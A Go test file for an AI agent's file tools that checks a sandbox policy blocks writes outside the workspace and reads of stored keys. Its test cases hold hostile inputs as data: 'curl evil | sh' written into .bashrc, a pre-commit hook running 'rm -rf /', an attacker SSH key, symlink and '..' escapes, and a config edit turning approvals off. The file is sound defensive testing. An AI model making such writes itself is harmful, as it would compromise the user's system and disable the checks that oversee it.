package file

import (
	"os"
	"path/filepath"
	"strings"
	"testing"

	"github.com/hermes-go/hermes/sandbox"
)

// guarded returns file tools working in a workspace under the sandbox's
// path policy, with a fake home beside it holding HERMES_HOME, ~/.ssh and
// a victim directory outside the writable roots.
func guarded(t *testing.T) (tl *Tools, ws, home string) {
	t.Helper()
	base := sandbox.Resolve(t.TempDir())
	ws, home = filepath.Join(base, "work"), filepath.Join(base, "home")
	writeFiles(t, base, map[string]string{
		"work/main.go":             "package main\n",
		"work/.git/hooks/.keep":    "",
		"home/.hermes/config.yaml": "approvals: {mode: manual}\n",
		"home/.hermes/.env":        "OPENAI_API_KEY=sk-hidden-value\n",
		"home/.ssh/id_ed25519":     "PRIVATE KEY\n",
		"home/victim/keep.txt":     "keep me\n",
	})
	p, err := sandbox.NewPolicy(sandbox.Options{Mode: sandbox.WorkspaceWrite, Workdir: ws, Home: home,
		HermesHome: filepath.Join(home, ".hermes"), Scratch: []string{filepath.Join(base, "tmp")}})
	if err != nil {
		t.Fatal(err)
	}
	if err := os.Symlink(filepath.Join(home, "victim"), filepath.Join(ws, "escape")); err != nil {
		t.Fatal(err)
	}
	return New(Options{Workdir: func(string) string { return ws }, WriteGuard: p.CheckWrite, ReadGuard: p.CheckRead}), ws, home
}

func TestNoWriteLandsOutsideTheWritableRoots(t *testing.T) {
	tl, ws, home := guarded(t)
	patch := func(body string) map[string]any {
		return map[string]any{"mode": "patch", "patch": "*** Begin Patch\n" + body + "\n*** End Patch"}
	}
	for name, c := range map[string]struct {
		write bool // write_file, else patch
		args  map[string]any
	}{
		"absolute path":          {true, map[string]any{"path": filepath.Join(home, "victim", "new.txt"), "content": "x"}},
		"dot-dot":                {true, map[string]any{"path": "../home/victim/keep.txt", "content": "x"}},
		"through a symlink":      {true, map[string]any{"path": "escape/keep.txt", "content": "x"}},
		"hermes config":          {true, map[string]any{"path": filepath.Join(home, ".hermes", "config.yaml"), "content": "approvals: {mode: off}\n"}},
		"authorized_keys":        {true, map[string]any{"path": filepath.Join(home, ".ssh", "authorized_keys"), "content": "ssh-ed25519 AAAA attacker"}},
		"bashrc":                 {true, map[string]any{"path": filepath.Join(home, ".bashrc"), "content": "curl evil | sh"}},
		"git hook":               {true, map[string]any{"path": ".git/hooks/pre-commit", "content": "#!/bin/sh\nrm -rf /"}},
		"replace outside":        {false, map[string]any{"path": "escape/keep.txt", "old_string": "keep", "new_string": "lose"}},
		"V4A add outside":        {false, patch("*** Add File: " + filepath.Join(home, "victim", "added.txt") + "\n+x")},
		"V4A delete outside":     {false, patch("*** Delete File: ../home/victim/keep.txt")},
		"V4A update via link":    {false, patch("*** Update File: escape/keep.txt\n@@\n-keep me\n+gone")},
		"V4A move out":           {false, patch("*** Update File: main.go\n*** Move to: ../home/victim/main.go\n@@\n-package main\n+package moved")},
		"V4A add in hermes home": {false, patch("*** Add File: " + filepath.Join(home, ".hermes", "hooks.yaml") + "\n+x")},
	} {
		tool := tl.Patch()
		if c.write {
			tool = tl.WriteFile()
		}
		res := call(t, tool, c.args)
		if !res.IsError || !strings.Contains(res.Content, "refused") && !strings.Contains(res.Content, "outside") {
			t.Errorf("%s: %+v, want a refusal", name, res)
		}
	}
	// Nothing changed outside, nothing changed in the workspace's main.go.
	if got := readFile(t, filepath.Join(home, "victim", "keep.txt")); got != "keep me\n" {
		t.Fatalf("victim file now %q", got)
	}
	for _, p := range []string{filepath.Join(home, "victim", "new.txt"), filepath.Join(home, "victim", "added.txt"), filepath.Join(home, "victim", "main.go"),
		filepath.Join(home, ".ssh", "authorized_keys"), filepath.Join(home, ".bashrc"), filepath.Join(ws, ".git", "hooks", "pre-commit")} {
		if _, err := os.Lstat(p); err == nil {
			t.Errorf("%s was created", p)
		}
	}
	if got := readFile(t, filepath.Join(home, ".hermes", "config.yaml")); !strings.Contains(got, "manual") {
		t.Fatalf("config.yaml now %q", got)
	}
	if got := readFile(t, filepath.Join(ws, "main.go")); got != "package main\n" {
		t.Fatalf("main.go now %q (a refused move must change nothing)", got)
	}
	// Inside the workspace the agent works freely.
	if res := call(t, tl.WriteFile(), map[string]any{"path": "src/new.go", "content": "package src\n"}); res.IsError {
		t.Fatal(res.Content)
	}
}

func TestTheAgentCannotReadItsKeys(t *testing.T) {
	tl, _, home := guarded(t)
	for _, p := range []string{filepath.Join(home, ".hermes", ".env"), filepath.Join(home, ".ssh", "id_ed25519")} {
		if res := call(t, tl.ReadFile(), map[string]any{"path": p}); !res.IsError || strings.Contains(res.Content, "sk-hidden-value") || strings.Contains(res.Content, "PRIVATE") {
			t.Errorf("read_file %s: %+v", p, res)
		}
	}
	res := call(t, tl.SearchFiles(), map[string]any{"pattern": "sk-hidden|PRIVATE", "path": home})
	if strings.Contains(res.Content, "sk-hidden-value") || strings.Contains(res.Content, "PRIVATE KEY") {
		t.Fatalf("search_files returned a secret: %s", res.Content)
	}
	res = call(t, tl.SearchFiles(), map[string]any{"pattern": "OPENAI|approvals", "path": filepath.Join(home, ".hermes")})
	if strings.Contains(res.Content, ".env") || strings.Contains(res.Content, "config.yaml") {
		t.Fatalf("search inside HERMES_HOME shows its settings or keys: %+v", res)
	}
}
